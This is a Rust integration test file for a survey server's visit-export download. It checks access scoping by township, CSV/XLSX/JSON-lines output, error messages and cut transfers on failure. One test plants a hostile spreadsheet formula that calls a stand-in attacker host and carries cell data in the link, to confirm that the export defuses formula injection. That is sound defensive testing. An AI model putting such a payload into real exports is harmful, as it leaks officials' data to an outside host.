//! The export as an HTTP download (`doorstep_server::export::
//! visits_response`), mounted on a router of the test's own and served by
//! the real connection layer on port 0 over the world's database file: two
//! townships of two counties, a supervisor of one of them, CSV parsed and
//! XLSX opened with calamine, every mistake a `400`, and a failure half-way
//! a cut transfer.

mod export_server;

use std::collections::{HashMap, HashSet};
use std::sync::Arc;

use calamine::{Data, Reader, Xlsx};
use doorstep_e2e::{VILLAGE_A, VILLAGE_B, World, answers, demo_form_version, visit_record};
use doorstep_protocol::{Change, Mutation};
use doorstep_server::store::DeviceAuth;
use export_server::{ExportServer, TOWNSHIP_A};
use reqwest::StatusCode;
use reqwest::header::{CACHE_CONTROL, CONTENT_DISPOSITION, CONTENT_LENGTH, CONTENT_TYPE};
use serde_json::json;
use uuid::Uuid;

/// Village B's county.
const COUNTY_B: &str = "530623";

/// One visit pushed: its id, members and whether it has a migrant.
#[derive(Debug, Clone)]
struct Pushed {
    id: String,
    members: usize,
    migrant: bool,
}

/// Pushes visits to `households` of `village`, with these members and
/// migrants, straight into the store as a device's push would.
fn push(world: &World, village: &str, visits: &[(Uuid, usize, bool)]) -> Vec<Pushed> {
    let cadre = world.cadre(village);
    let enrollment = world.raw_enrollment(cadre);
    let auth = DeviceAuth {
        device_id: enrollment.device_id,
        cadre_id: enrollment.cadre_id,
    };
    let mut pushed = Vec::new();
    let changes: Vec<Change> = visits
        .iter()
        .enumerate()
        .map(|(index, &(household, members, migrant))| {
            let mut answers = answers(members as i64);
            if migrant {
                answers.insert(
                    "migrants".into(),
                    json!([{"migrant_name": format!("外出{index}"), "destination": "outside_province",
                            "city": "东莞", "employer": "电子厂", "monthly_income": 4300 + index,
                            "return_date": "2026-02-10"}]),
                );
            }
            let visit = visit_record(&enrollment, household, answers);
            pushed.push(Pushed {
                id: visit.id.to_string(),
                members,
                migrant,
            });
            Change {
                seq: index as u64 + 1,
                mutation: Mutation::Visit(visit),
            }
        })
        .collect();
    let (results, _) = world
        .store
        .push(auth, &changes, None, chrono::Utc::now())
        .expect("push");
    assert_eq!(results.len(), changes.len());
    pushed
}

/// A world with three visits in township A and two in county B.
fn world_with_visits() -> (World, Vec<Pushed>, Vec<Pushed>) {
    let world = World::new();
    let a = push(
        &world,
        VILLAGE_A,
        &[
            (world.village_a[0], 2, false),
            (world.village_a[1], 3, true),
            (world.village_a[2], 1, false),
        ],
    );
    let b = push(
        &world,
        VILLAGE_B,
        &[
            (world.village_b[0], 4, true),
            (world.village_b[1], 1, false),
        ],
    );
    (world, a, b)
}

/// A CSV body as rows of column → value; the byte-order mark is checked
/// and taken off.
fn csv_rows(body: &[u8]) -> Vec<HashMap<String, String>> {
    let text = body
        .strip_prefix(b"\xEF\xBB\xBF")
        .expect("a UTF-8 byte-order mark first");
    let mut reader = csv::Reader::from_reader(text);
    let header: Vec<String> = reader
        .headers()
        .expect("a header")
        .iter()
        .map(String::from)
        .collect();
    reader
        .records()
        .map(|record| {
            header
                .iter()
                .cloned()
                .zip(record.expect("a row").iter().map(String::from))
                .collect()
        })
        .collect()
}

fn column<'r>(rows: &'r [HashMap<String, String>], name: &str) -> Vec<&'r str> {
    rows.iter().map(|row| row[name].as_str()).collect()
}

fn ids(visits: &[Pushed]) -> HashSet<String> {
    visits.iter().map(|visit| visit.id.clone()).collect()
}

fn header(headers: &reqwest::header::HeaderMap, name: impl reqwest::header::AsHeaderName) -> &str {
    headers
        .get(name)
        .and_then(|value| value.to_str().ok())
        .unwrap_or_default()
}

/// Temporary workbooks left beside the database.
fn leftovers(world: &World) -> Vec<String> {
    std::fs::read_dir(world.directory())
        .expect("the world's directory")
        .filter_map(|entry| entry.ok())
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .filter(|name| name.starts_with(".doorstep-export-"))
        .collect()
}

#[test]
fn a_supervisor_downloads_only_its_townships_visits_as_csv_xlsx_and_json_lines() {
    let (world, a, b) = world_with_visits();
    let server = ExportServer::start(Arc::clone(&world.store));
    let today = chrono::Utc::now().date_naive();

    // The admin's export has every visit.
    let (_, body) = server.download("admin", "format=csv");
    let everything = csv_rows(&body);
    let all: HashSet<String> = ids(&a).union(&ids(&b)).cloned().collect();
    let seen: HashSet<String> = column(&everything, "visit_id")
        .into_iter()
        .map(String::from)
        .collect();
    assert_eq!(seen, all);

    // The supervisor's has township A's only, whatever it asks.
    let (headers, body) = server.download("supervisor", "format=csv");
    assert_eq!(header(&headers, CONTENT_TYPE), "text/csv; charset=utf-8");
    assert_eq!(
        header(&headers, CONTENT_DISPOSITION),
        format!("attachment; filename=\"visits-{TOWNSHIP_A}-{today}.csv\"")
    );
    assert_eq!(header(&headers, CACHE_CONTROL), "no-store");
    let visits = csv_rows(&body);
    let seen: HashSet<String> = column(&visits, "visit_id")
        .into_iter()
        .map(String::from)
        .collect();
    assert_eq!(seen, ids(&a));
    assert!(
        column(&visits, "village_code")
            .iter()
            .all(|code| *code == VILLAGE_A)
    );
    assert!(
        column(&visits, "form_version")
            .iter()
            .all(|version| *version == demo_form_version())
    );
    let (_, body) = server.download("supervisor", &format!("format=csv&area={VILLAGE_A}"));
    assert_eq!(csv_rows(&body).len(), a.len());

    // A repeat's table, joined by visit_id, of the supervisor's visits only.
    let (headers, body) = server.download("supervisor", "format=csv&table=members");
    assert_eq!(
        header(&headers, CONTENT_DISPOSITION),
        format!("attachment; filename=\"visits-{TOWNSHIP_A}-{today}-members.csv\"")
    );
    let members = csv_rows(&body);
    assert_eq!(
        members.len(),
        a.iter().map(|visit| visit.members).sum::<usize>()
    );
    for visit in &a {
        let indexes: Vec<&str> = members
            .iter()
            .filter(|row| row["visit_id"] == visit.id)
            .map(|row| row["members_index"].as_str())
            .collect();
        let expected: Vec<String> = (1..=visit.members).map(|index| index.to_string()).collect();
        assert_eq!(indexes, expected, "members of {}", visit.id);
    }

    // The workbook: a sheet per table, the repeats joined by visit id.
    let (headers, body) = server.download("supervisor", "format=xlsx&choices=labels");
    assert_eq!(
        header(&headers, CONTENT_TYPE),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert_eq!(
        header(&headers, CONTENT_DISPOSITION),
        format!("attachment; filename=\"visits-{TOWNSHIP_A}-{today}.xlsx\"")
    );
    assert_eq!(header(&headers, CONTENT_LENGTH), body.len().to_string());
    assert_eq!(header(&headers, CACHE_CONTROL), "no-store");
    let mut workbook = Xlsx::new(std::io::Cursor::new(body)).expect("an XLSX workbook");
    assert_eq!(workbook.sheet_names(), ["visits", "members", "migrants"]);
    let sheet = workbook
        .worksheet_range("visits")
        .expect("the visits sheet");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(rows[0][0], Data::String("visit_id".into()));
    let respondent = rows[0]
        .iter()
        .position(|cell| *cell == Data::String("respondent".into()))
        .expect("a respondent column");
    let visit_ids: HashSet<String> = rows[1..].iter().map(|row| row[0].to_string()).collect();
    assert_eq!(visit_ids, ids(&a));
    assert!(
        rows[1..]
            .iter()
            .all(|row| row[respondent] == Data::String("户主".into()))
    );
    let sheet = workbook
        .worksheet_range("members")
        .expect("the members sheet");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    assert_eq!(
        rows[0][..2],
        [
            Data::String("visit_id".into()),
            Data::String("members_index".into())
        ]
    );
    assert_eq!(
        rows.len() - 1,
        a.iter().map(|visit| visit.members).sum::<usize>()
    );
    assert!(
        rows[1..]
            .iter()
            .all(|row| visit_ids.contains(&row[0].to_string()))
    );
    let sheet = workbook
        .worksheet_range("migrants")
        .expect("the migrants sheet");
    let migrants: Vec<String> = sheet.rows().skip(1).map(|row| row[0].to_string()).collect();
    let with_migrant: Vec<String> = a
        .iter()
        .filter(|visit| visit.migrant)
        .map(|visit| visit.id.clone())
        .collect();
    assert_eq!(migrants, with_migrant);
    assert!(leftovers(&world).is_empty(), "{:?}", leftovers(&world));

    // JSON lines: each visit as stored.
    let (headers, body) = server.download("supervisor", "format=jsonl");
    assert_eq!(header(&headers, CONTENT_TYPE), "application/x-ndjson");
    let households: HashSet<String> = world.village_a.iter().map(Uuid::to_string).collect();
    let lines: Vec<serde_json::Value> = body
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.is_empty())
        .map(|line| serde_json::from_slice(line).expect("a JSON line"))
        .collect();
    assert_eq!(lines.len(), a.len());
    assert!(
        lines
            .iter()
            .all(|visit| households
                .contains(visit["household_id"].as_str().expect("a household id")))
    );

    // Another county, its village, or an area that does not exist: all
    // "not found", in the same words, in every format.
    for area in [COUNTY_B, VILLAGE_B, "530626"] {
        for format in ["csv", "xlsx", "jsonl"] {
            let (status, message) =
                server.refused("supervisor", &format!("format={format}&area={area}"));
            assert_eq!(status, StatusCode::NOT_FOUND);
            assert_eq!(message, format!("no area {area}"));
        }
    }
    let (status, message) = server.refused("supervisor", "area=999999");
    assert_eq!(
        (status, message.as_str()),
        (StatusCode::NOT_FOUND, "no area 999999")
    );
    // The admin reaches county B.
    let (_, body) = server.download("admin", &format!("area={COUNTY_B}"));
    assert_eq!(
        column(&csv_rows(&body), "visit_id")
            .into_iter()
            .map(String::from)
            .collect::<HashSet<_>>(),
        ids(&b)
    );
}

#[test]
fn choices_come_as_names_or_as_labels() {
    let (world, a, _) = world_with_visits();
    let server = ExportServer::start(Arc::clone(&world.store));
    let row = |query: &str| {
        let (_, body) = server.download("supervisor", query);
        csv_rows(&body)
            .into_iter()
            .find(|row| row["visit_id"] == a[0].id)
            .expect("the first visit")
    };
    let names = row("format=csv");
    assert_eq!(
        (
            names["respondent"].as_str(),
            names["support_needed"].as_str(),
            names["risk_category"].as_str()
        ),
        ("head", "jobs", "edge")
    );
    let labels = row("format=csv&choices=labels");
    assert_eq!(
        (
            labels["respondent"].as_str(),
            labels["support_needed"].as_str()
        ),
        ("户主", "就业岗位")
    );
    assert_ne!(labels["risk_category"], "edge");
    let (_, body) = server.download("supervisor", "format=csv&table=members&choices=labels");
    let members = csv_rows(&body);
    let head = members
        .iter()
        .find(|row| row["visit_id"] == a[0].id && row["members_index"] == "1")
        .expect("the first member");
    assert_eq!(head["relation"], "户主");
}

#[test]
fn bad_queries_are_400s_that_say_what_is_wrong() {
    let (world, _, _) = world_with_visits();
    let server = ExportServer::start(Arc::clone(&world.store));
    for (query, expected) in [
        ("format=pdf", "format must be csv, xlsx, jsonl or files"),
        ("choices=both", "choices must be names or labels"),
        ("since=28/12/2024", "since must be a day, YYYY-MM-DD"),
        ("since=2025-02-01&until=2025-01-01", "until is before since"),
        ("format=xlsx&table=members", "table is for CSV only"),
        ("colour=red", "unknown field `colour`"),
        (
            "table=households",
            "table must be one of this form's: visits, members, migrants",
        ),
    ] {
        let (status, message) = server.refused("supervisor", query);
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}: {message}");
        assert!(message.contains(expected), "{query}: {message}");
    }
    assert!(leftovers(&world).is_empty());
}

#[test]
fn no_visits_is_not_found_and_several_form_versions_ask_which() {
    let (world, a, _) = world_with_visits();
    let server = ExportServer::start(Arc::clone(&world.store));
    let tomorrow = chrono::Utc::now().date_naive().succ_opt().expect("a day");
    for format in ["csv", "xlsx"] {
        let (status, message) =
            server.refused("supervisor", &format!("format={format}&since={tomorrow}"));
        assert_eq!(
            (status, message.as_str()),
            (StatusCode::NOT_FOUND, "no visits match these filters")
        );
    }
    // JSON lines need no layout: nothing is an empty file.
    let (_, body) = server.download("supervisor", &format!("format=jsonl&since={tomorrow}"));
    assert!(body.is_empty());

    // A visit of a second version in township A: the supervisor is asked
    // which, with the counts of its own visits only.
    let mut definition: serde_json::Value =
        serde_json::from_str(doorstep_e2e::DEMO_FORM).expect("the demo form");
    definition["version"] = "2099010101".into();
    let form = doorstep_forms::Form::from_definition(&definition).expect("a form");
    world.store.publish_form(&form).expect("publish");
    let cadre = world.cadre(VILLAGE_A);
    let enrollment = world.raw_enrollment(cadre);
    let mut newer = visit_record(&enrollment, world.village_a[0], answers(1));
    newer.form_version = "2099010101".into();
    let auth = DeviceAuth {
        device_id: enrollment.device_id,
        cadre_id: enrollment.cadre_id,
    };
    let change = Change {
        seq: 1,
        mutation: Mutation::Visit(newer.clone()),
    };
    world
        .store
        .push(auth, &[change], None, chrono::Utc::now())
        .expect("push");
    let (status, message) = server.refused("supervisor", "format=xlsx");
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let first = format!(
        "household_check {} ({} visits)",
        demo_form_version(),
        a.len()
    );
    assert!(
        message.contains("2 form versions")
            && message.contains("form_version")
            && message.contains(&first),
        "{message}"
    );
    let (_, body) = server.download("supervisor", "format=csv&form_version=2099010101");
    assert_eq!(
        column(&csv_rows(&body), "visit_id"),
        [newer.id.to_string().as_str()]
    );
}

#[test]
fn a_failure_half_way_is_a_cut_transfer_not_a_short_file() {
    let (world, a, _) = world_with_visits();
    let server = ExportServer::start(Arc::clone(&world.store));
    // The last visit received, damaged on disk behind the store's back: the
    // export fails when the cursor reaches it, after the response began.
    let connection = doorstep_core::sqlite::open(
        &world.server_path(),
        doorstep_core::sqlite::Durability::Full,
    )
    .expect("the server's database");
    let damaged = connection
        .execute(
            "UPDATE visits SET answers = '[\"not an object\"]' WHERE id = ?1",
            [a[2].id.as_str()],
        )
        .expect("damage");
    assert_eq!(damaged, 1);
    drop(connection);

    // The connection is cut: after the headers (a body that ends in an
    // error), or before them when the failure comes first (a few visits
    // are read before hyper writes anything). Never a whole response.
    for format in ["csv", "jsonl"] {
        match server.try_get("supervisor", &format!("format={format}")) {
            Ok(response) => {
                assert_eq!(response.status(), StatusCode::OK);
                assert!(
                    response.bytes().is_err(),
                    "a {format} export cut short must not read as a whole file"
                );
            }
            Err(error) => assert!(
                !error.is_status() && !error.is_builder(),
                "{format}: a cut connection, not {error}"
            ),
        }
    }
    // The workbook fails before its first byte: a plain error, nothing left.
    let response = server.get("supervisor", "format=xlsx");
    assert_eq!(response.status(), StatusCode::INTERNAL_SERVER_ERROR);
    assert!(leftovers(&world).is_empty(), "{:?}", leftovers(&world));
}

#[test]
fn a_formula_in_an_answer_stays_text_in_csv_and_xlsx() {
    let world = World::new();
    // A hostile device's note, meant to run when an official opens the
    // export in a spreadsheet.
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"查看详情\")";
    let cadre = world.cadre(VILLAGE_A);
    let enrollment = world.raw_enrollment(cadre);
    let mut answers = answers(1);
    answers.insert("notes".into(), formula.into());
    let visit = visit_record(&enrollment, world.village_a[0], answers);
    let auth = DeviceAuth {
        device_id: enrollment.device_id,
        cadre_id: enrollment.cadre_id,
    };
    let change = Change {
        seq: 1,
        mutation: Mutation::Visit(visit),
    };
    let (results, _) = world
        .store
        .push(auth, &[change], None, chrono::Utc::now())
        .expect("push");
    assert_eq!(results[0].outcome, doorstep_protocol::Outcome::Applied);
    let server = ExportServer::start(Arc::clone(&world.store));

    let (_, body) = server.download("supervisor", "format=csv");
    let rows = csv_rows(&body);
    assert_eq!(rows[0]["notes"], format!("'{formula}"));
    assert_eq!(rows[0]["income_wages"], "38000");

    let (_, body) = server.download("supervisor", "format=xlsx");
    let mut workbook = Xlsx::new(std::io::Cursor::new(body)).expect("an XLSX workbook");
    let sheet = workbook
        .worksheet_range("visits")
        .expect("the visits sheet");
    let rows: Vec<&[Data]> = sheet.rows().collect();
    let notes = rows[0]
        .iter()
        .position(|cell| *cell == Data::String("notes".into()))
        .expect("a notes column");
    assert_eq!(rows[1][notes], Data::String(formula.into()));
    let formulas = workbook
        .worksheet_formula("visits")
        .expect("the visits sheet's formulas");
    assert!(
        formulas.used_cells().all(|(_, _, text)| text.is_empty()),
        "the workbook holds no formula"
    );
}
